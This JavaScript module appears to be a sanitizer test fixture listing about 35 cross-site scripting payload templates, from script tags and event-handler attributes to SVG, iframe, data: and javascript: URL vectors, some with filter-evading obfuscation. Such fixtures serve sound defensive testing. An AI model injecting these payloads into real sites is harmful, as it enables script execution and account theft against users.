/** Shapes that want to run something. */
const encoded = (text) => encodeURIComponent(text).replaceAll("'", '%27');
const entities = (text) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('');

export const running = [
  { name: 'script', when: 'fires', body: ({ run }) => `<script>${run}</script>` },
  { name: 'script-of-elsewhere', when: 'fires', body: ({ url }) => `<script src="${url('a.js')}"></script>` },
  { name: 'module', when: 'fires', body: ({ run }) => `<script type="module">${run}</script>` },
  {
    name: 'script-in-capitals',
    when: 'fires',
    body: ({ run }) => `<ScRiPt/type="text/javascript"\n>${run}</sCrIpT >`,
  },
  {
    name: 'script-within-script',
    when: 'elsewhere',
    body: ({ run }) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  },
  { name: 'picture-error', when: 'fires', body: ({ run }) => `<img src="x:" onerror="${run}">` },
  { name: 'picture-error-slashes', when: 'fires', body: ({ run }) => `<img/src="x:"/onerror="${run}"/>` },
  { name: 'body-load', when: 'fires', body: ({ run }) => `<body onload="${run}"><p>Bonjour</p></body>` },
  {
    name: 'handler-in-entities',
    when: 'fires',
    body: ({ run }) => `<img src=x: onerror="${entities(run)}">`,
  },
  {
    name: 'details-toggle',
    when: 'fires',
    body: ({ run }) => `<details open ontoggle="${run}"><summary>Voir</summary></details>`,
  },
  {
    name: 'focus-by-itself',
    when: 'touched',
    body: ({ run }) => `<input autofocus onfocus="${run}" onclick="${run}">`,
  },
  {
    name: 'marquee-start',
    when: 'elsewhere',
    body: ({ run }) => `<marquee onstart="${run}" loop="1" width="1">offre</marquee>`,
  },
  {
    name: 'animation-start',
    when: 'fires',
    body: ({ run }) => `<style>@keyframes k{from{left:0}to{left:1px}}</style>
      <p style="animation:k 1s" onanimationstart="${run}">Bonjour</p>`,
  },
  {
    name: 'video-error',
    when: 'fires',
    body: ({ run }) => `<video><source src="x:" onerror="${run}"></video>`,
  },
  { name: 'audio-error', when: 'fires', body: ({ run }) => `<audio src="x:" onerror="${run}"></audio>` },
  {
    name: 'vector-load',
    when: 'fires',
    body: ({ run }) => `<svg onload="${run}" xmlns="http://www.w3.org/2000/svg"><circle r="9"/></svg>`,
  },
  { name: 'vector-script', when: 'fires', body: ({ run }) => `<svg><script>${run}</script></svg>` },
  {
    name: 'vector-animate',
    when: 'fires',
    body: ({ run }) => `<svg><animate attributeName="x" dur="1ms" onbegin="${run}"/></svg>`,
  },
  {
    name: 'vector-link',
    when: 'touched',
    body: ({ run }) =>
      `<svg width="90" height="30"><a href="javascript:${run}"><text y="20">Voir</text></a></svg>`,
  },
  {
    name: 'vector-foreign-object',
    when: 'fires',
    body: ({ run }) =>
      `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x:" onerror="${run}"/></body></foreignObject></svg>`,
  },
  {
    name: 'formula-link',
    when: 'elsewhere',
    body: ({ run }) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  },
  { name: 'link-script', when: 'touched', body: ({ run }) => `<a href="javascript:${run}">Voir l’offre</a>` },
  {
    name: 'link-script-hidden',
    when: 'touched',
    body: ({ run }) => `<a href=" &#1; java&#9;scr&#10;ipt&colon;${run}">Voir</a>`,
  },
  {
    name: 'link-data',
    when: 'touched',
    body: ({ run }) => `<a href="data:text/html,${encoded(`<script>${run}</script>`)}">Voir</a>`,
  },
  { name: 'link-visual-basic', when: 'elsewhere', body: () => `<a href="vbscript:MsgBox(1)">Voir</a>` },
  {
    name: 'form-script',
    when: 'touched',
    body: ({ run }) => `<form action="javascript:${run}"><button>Envoyer</button></form>`,
  },
  {
    name: 'button-script',
    when: 'touched',
    body: ({ run }) => `<form><button formaction="javascript:${run}">Envoyer</button></form>`,
  },
  { name: 'frame-script', when: 'fires', body: ({ run }) => `<iframe src="javascript:${run}"></iframe>` },
  {
    name: 'frame-within',
    when: 'fires',
    body: ({ run }) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  },
  {
    name: 'frame-data',
    when: 'fires',
    body: ({ run }) => `<iframe src="data:text/html,${encoded(`<script>${run}</script>`)}"></iframe>`,
  },
  {
    name: 'object-data',
    when: 'fires',
    body: ({ run }) =>
      `<object data="data:text/html,${encoded(`<script>${run}</script>`)}" type="text/html"></object>`,
  },
  { name: 'embed-script', when: 'elsewhere', body: ({ run }) => `<embed src="javascript:${run}">` },
  {
    name: 'refresh-script',
    when: 'elsewhere',
    body: ({ run }) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  },
  {
    name: 'style-expression',
    when: 'elsewhere',
    body: ({ run }) => `<p style="width:expression(${run})">x</p>`,
  },
  {
    name: 'conditional-comment',
    when: 'elsewhere',
    body: ({ run }) => `<!--[if gte IE 4]><script>${run}</script><![endif]--><p>Bonjour</p>`,
  },
];
